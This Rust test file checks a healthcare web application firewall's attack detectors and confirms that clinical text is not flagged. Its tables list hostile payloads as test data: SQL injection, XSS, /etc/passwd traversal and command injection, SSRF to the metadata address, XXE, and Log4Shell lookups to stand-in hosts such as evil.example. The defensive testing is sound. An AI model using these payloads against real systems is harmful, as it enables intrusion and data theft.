//! The detectors through their public entry point (`detect::detect`), as the engine calls
//! them: attack and benign tables per input kind, and the clinical corpus in the repository
//! (every JSON string of every resource as clinical text, every narrative `div` as FHIR
//! narrative) producing no finding at all.

use std::path::Path;

use wardgate_waf::detect::{AttackClass, Finding, Input, InputKind, detect};

fn findings(kind: InputKind, name: Option<&str>, value: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    detect(
        &Input {
            kind,
            name,
            value,
            paranoia: 1,
        },
        &mut out,
    );
    out
}

fn blocks(kind: InputKind, value: &str) -> bool {
    findings(kind, None, value).iter().any(|f| f.score >= 5)
}

fn class_of(kind: InputKind, value: &str) -> Option<AttackClass> {
    findings(kind, None, value)
        .into_iter()
        .filter(|f| f.score >= 5)
        .map(|f| f.class)
        .next()
}

#[test]
fn every_attack_class_blocks_in_a_query_value() {
    let table: &[(&str, AttackClass)] = &[
        ("' OR 1=1--", AttackClass::Sqli),
        (
            "1 UNION SELECT username, password FROM users",
            AttackClass::Sqli,
        ),
        ("1; WAITFOR DELAY '0:0:5'--", AttackClass::Sqli),
        ("<svg/onload=alert(1)>", AttackClass::Xss),
        ("javascript:alert(document.cookie)", AttackClass::Xss),
        ("../../../../etc/passwd", AttackClass::Lfi),
        (
            "php://filter/convert.base64-encode/resource=index.php",
            AttackClass::Lfi,
        ),
        ("http://evil.example/shell.txt?", AttackClass::Rfi),
        ("; cat /et'c/pa'ss'wd", AttackClass::Rce),
        ("cat${IFS}/etc/passwd", AttackClass::Rce),
        (
            "http://169.254.169.254/latest/meta-data/",
            AttackClass::Ssrf,
        ),
        ("http://0x7f000001/admin", AttackClass::Ssrf),
        (
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            AttackClass::Xxe,
        ),
        ("*)(uid=*))(|(uid=*", AttackClass::Ldapi),
        ("' or count(/child::node())=1 or '", AttackClass::Xpathi),
        ("true, $where: '99 == 88'", AttackClass::Nosqli),
        ("{{7*7}}", AttackClass::Ssti),
        ("<!--#exec cmd=\"ls\" -->", AttackClass::Ssi),
        (
            "${${lower:j}ndi:ldap://evil.example/a}",
            AttackClass::Log4Shell,
        ),
        ("x\r\nSet-Cookie: session=evil", AttackClass::Crlf),
        (
            "x\r\nRCPT TO: victim@example.org",
            AttackClass::MailInjection,
        ),
    ];
    for (value, class) in table {
        let found: Vec<AttackClass> = findings(InputKind::QueryValue, None, value)
            .into_iter()
            .filter(|f| f.score >= 5)
            .map(|f| f.class)
            .collect();
        assert!(
            found.contains(class),
            "{value}: expected {class:?}, found {found:?}"
        );
    }
}

#[test]
fn text_with_attack_words_passes_as_a_query_value() {
    for value in [
        "patient refused to select a drop-in clinic",
        "Union City",
        "O'Brien",
        "drop attacks",
        "Delete old PIV order. Update MAR.",
        "Hgb < 7.0 g/dL -- transfuse",
        "hold if HR < 60 or SBP < 100",
        "St. Mary's Rd, Apt #3-B",
        "Null",
        "D'Souza",
        "echo in the mirror",
        "Tom & Jerry; cat food",
        "http://loinc.org|8867-4",
        "urn:oid:1.2.36.146.595.217.0.1",
        "2024-01-01T10:00:00+01:00",
        "gt2020-01-01",
        "Patient/123/_history/2",
        "name:contains=smith",
    ] {
        let found = findings(InputKind::QueryValue, None, value);
        assert!(found.iter().all(|f| f.score < 5), "{value}: {found:?}");
    }
}

#[test]
fn clinical_text_is_judged_only_by_what_is_dangerous_there() {
    // SQL, shell and path words are not judged in clinical text at all...
    for value in [
        "' OR 1=1-- is how the note reads after the OCR error",
        "pt says: cat /etc/passwd is the password he uses",
        "Union; select * from the menu",
        "../../ see previous note",
        "Tx: sleep 5 hours; drink water",
    ] {
        assert!(
            findings(InputKind::ClinicalText, None, value).is_empty(),
            "{value}"
        );
    }
    // ...markup that executes and lookups are.
    assert_eq!(
        class_of(InputKind::ClinicalText, "<img src=x onerror=alert(1)>"),
        Some(AttackClass::Xss)
    );
    assert_eq!(
        class_of(InputKind::ClinicalText, "${jndi:ldap://x/a}"),
        Some(AttackClass::Log4Shell)
    );
}

#[test]
fn narrative_rules_apply_to_fhir_narrative() {
    let ok = "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>HR &lt; 60</p><table><tr><td>1</td></tr></table></div>";
    assert!(findings(InputKind::FhirNarrative, None, ok).is_empty());
    let bad =
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"javascript:alert(1)\">x</a></div>";
    assert!(blocks(InputKind::FhirNarrative, bad));
}

#[test]
fn headers_get_the_detectors_of_their_name() {
    let sqlmap = "sqlmap/1.7.4#stable (https://sqlmap.org)";
    assert!(
        findings(InputKind::HeaderValue, Some("user-agent"), sqlmap)
            .iter()
            .any(|f| f.class == AttackClass::Scanner)
    );
    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
    assert!(findings(InputKind::HeaderValue, Some("user-agent"), browser).is_empty());
    // Structural headers are parsed by HTTP, not applications: only lookups count.
    assert!(
        findings(
            InputKind::HeaderValue,
            Some("accept"),
            "text/html, */*; q=0.01' or 1=1"
        )
        .is_empty()
    );
    assert!(!findings(InputKind::HeaderValue, Some("accept"), "${jndi:ldap://x/a}").is_empty());
    // Custom headers get everything.
    assert!(
        findings(InputKind::HeaderValue, Some("x-payload"), "' or 1=1--")
            .iter()
            .any(|f| f.score >= 5)
    );
}

#[test]
fn nosql_operators_in_keys_and_names() {
    assert_eq!(
        class_of(InputKind::JsonKey, "$ne"),
        Some(AttackClass::Nosqli)
    );
    assert_eq!(
        class_of(InputKind::QueryName, "password[$ne]"),
        Some(AttackClass::Nosqli)
    );
    assert!(findings(InputKind::JsonKey, None, "resourceType").is_empty());
}

#[test]
fn xml_documents_are_checked_for_entities() {
    let xxe =
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil/x.dtd\">%x;]><r/>";
    assert_eq!(
        class_of(InputKind::XmlDocument, xxe),
        Some(AttackClass::Xxe)
    );
    let fhir =
        "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"O'Brien\"/></name></Patient>";
    assert!(findings(InputKind::XmlDocument, None, fhir).is_empty());
}

/// Every JSON string leaf of a resource, with whether it is a narrative `div`.
fn leaves<'v>(value: &'v serde_json::Value, parent: &str, out: &mut Vec<(bool, &'v str)>) {
    match value {
        serde_json::Value::String(s) => out.push((parent == "div", s)),
        serde_json::Value::Array(items) => items.iter().for_each(|v| leaves(v, parent, out)),
        serde_json::Value::Object(map) => map.iter().for_each(|(k, v)| leaves(v, k, out)),
        _ => {}
    }
}

#[test]
fn clinical_corpus_free_text_produces_no_finding() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../testdata/fhir/resources");
    let mut strings = 0;
    let mut problems = Vec::new();
    for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
        let path = entry.expect("directory entry").path();
        let text = std::fs::read_to_string(&path).expect("corpus file");
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            let resource: serde_json::Value = serde_json::from_str(line).expect("a JSON resource");
            let mut out = Vec::new();
            leaves(&resource, "", &mut out);
            for (narrative, s) in out {
                strings += 1;
                let kind = if narrative {
                    InputKind::FhirNarrative
                } else {
                    InputKind::ClinicalText
                };
                for f in findings(kind, None, s) {
                    problems.push(format!(
                        "{}: {:?} {} in {:?}",
                        path.display(),
                        kind,
                        f.rule,
                        s.get(f.span.clone())
                    ));
                }
            }
        }
    }
    assert!(strings > 100_000, "only {strings} strings read");
    assert!(
        problems.is_empty(),
        "{} findings, first: {:?}",
        problems.len(),
        problems.first()
    );
}
